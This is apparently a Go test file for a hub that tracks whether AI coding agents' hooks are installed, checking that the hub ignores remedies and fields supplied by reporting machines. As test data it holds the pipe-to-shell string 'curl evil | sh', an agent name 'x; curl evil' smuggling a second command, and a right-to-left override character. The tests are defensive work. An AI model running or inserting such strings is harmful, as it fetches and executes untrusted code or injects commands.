package httpapi

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/hookback/hookback/schema/control"
)

func (r *harness) reportMachine(agents string) (list control.CoverageList) {
	r.t.Helper()
	r.requestJSON("POST "+control.PathCoverage, `{"host":"laptop","account":"ada","agents":[`+agents+`]}`, &list)
	return list
}

func (r *harness) coverage() (list control.CoverageList) {
	r.t.Helper()
	r.requestJSON("GET "+control.PathCoverage, "", &list)
	return list
}

// postGate posts an event with gate facts.
func (r *harness) postGate(event, facts string) {
	r.t.Helper()
	r.post(fmt.Sprintf(`{"source_app":"shop","session_id":"s","hook_event_type":%q,"agent":"codex","os_user":"ada","payload":{},"gate":%s}`, event, facts))
}

const codexNow = `{"agent":"codex","version":"1.2.0","policy":"p1","settings":"e1","remedy":"start Codex","detail":"run curl evil | sh"}`

func TestCoverage_ComparesReportWithNewestEvent(t *testing.T) {
	t.Parallel()
	r := setup(t)
	require.Empty(t, r.coverage().Agents)
	state := func(agents string) control.Coverage {
		t.Helper()
		list := r.reportMachine(agents)
		require.Len(t, list.Agents, 1)
		return list.Agents[0]
	}
	require.Equal(t, control.CoverageNotProven, state(codexNow).State)
	require.Contains(t, state(codexNow).Remedy, "open /hooks in Codex")
	require.Equal(t, "no event came since it was installed", state(codexNow).Detail)

	r.postGate("SessionStart", `{"client":"0.9","host":"laptop","policy":"p1","settings":"e1","version":"1.2.0"}`)
	got := state(codexNow)
	require.Equal(t, control.CoverageProven, got.State)
	require.Empty(t, got.Remedy)
	require.Equal(t, "0.9", got.Client)
	require.NotZero(t, got.ProvenAt)

	for _, change := range []string{"1.2.0", "p1", "e1"} {
		require.Equal(t, control.CoverageChanged, state(strings.Replace(codexNow, change, "other", 1)).State, change)
	}
	r.postGate("PreToolUse", `{"client":"0.9","host":"laptop"}`)
	require.Equal(t, control.CoverageProven, state(codexNow).State, "an event about a tool call changes no fact that it leaves out")

	off := state(`{"agent":"codex","state":"off","detail":"no hook for PreToolUse","remedy":"curl evil | sh"}`)
	require.Equal(t, control.CoverageOff, off.State)
	require.Equal(t, "hookback install --agent codex", off.Remedy, "the hub's, not the machine's")
	require.Empty(t, off.Detail)
	require.Equal(t, "no hook for PreToolUse", off.Reported)
	require.Equal(t, []control.Coverage{off}, r.coverage().Agents)
}

// Hooks report the installations of their account, and an agent that is missing is off.
func TestCoverage_DeletedHooksAreOff(t *testing.T) {
	t.Parallel()
	r := setup(t)
	r.reportMachine(codexNow + `,{"agent":"gemini"}`)
	r.postGate("Stop", `{"client":"0.9","host":"laptop","settings":"e1","agents":[`+codexNow+`]}`)
	list := r.coverage().Agents
	require.Len(t, list, 2)
	require.Equal(t, control.CoverageProven, list[0].State)
	require.Equal(t, control.CoverageOff, list[1].State)
	require.Equal(t, "hookback install --agent gemini", list[1].Remedy)
	require.Empty(t, r.reportMachineOf("other"), "a machine changes and reads its own rows only")
	require.Equal(t, list, r.coverage().Agents)
}

func (r *harness) reportMachineOf(host string) []control.Coverage {
	r.t.Helper()
	var list control.CoverageList
	r.requestJSON("POST "+control.PathCoverage, `{"host":"`+host+`","account":"ada","agents":[]}`, &list)
	return list.Agents
}

func TestCoverage_HostileReports(t *testing.T) {
	t.Parallel()
	r := setup(t)
	for _, body := range []string{
		`{"account":"ada","agents":[]}`, `{"host":"h","agents":[{"agent":""}]}`, `{"host":"h","agents":[{"agent":"codex","state":"proven"}]}`,
		`{"host":"` + strings.Repeat("h", 201) + `","agents":[]}`, `{"host":"h","agents":[` + strings.Repeat(`{"agent":"a"},`, control.MaxInstallations) + `{"agent":"a"}]}`,
	} {
		status, _ := r.do("POST", control.PathCoverage, body)
		require.GreaterOrEqual(t, status.StatusCode, 400, body)
		require.Less(t, status.StatusCode, 500, body)
	}
	r.post(`{"source_app":"shop","session_id":"s","hook_event_type":"Stop","agent":"codex","payload":{},"gate":"no object"}`)
	r.postGate("Stop", `{"client":"0.9","host":"h","agents":[{"agent":"gemini","state":"off","detail":"a\u202eb`+strings.Repeat("x", 3000)+`"}]}`)
	list := r.coverage().Agents
	require.Len(t, list, 2)
	require.Equal(t, "gemini", list[1].Agent)
	require.Contains(t, list[1].Reported, `a\u202ebxxx`)
	require.Less(t, len(list[1].Reported), 600)
	r.postGate("Stop", `{"client":"0.9","host":"h","agents":[{"agent":"x; curl evil","state":"off"},{"agent":"gemini","state":"not loaded"}]}`)
	list = r.coverage().Agents
	require.Equal(t, []string{"", "hookback doctor", ""}, []string{list[0].Remedy, list[1].Remedy, list[2].Remedy})
}
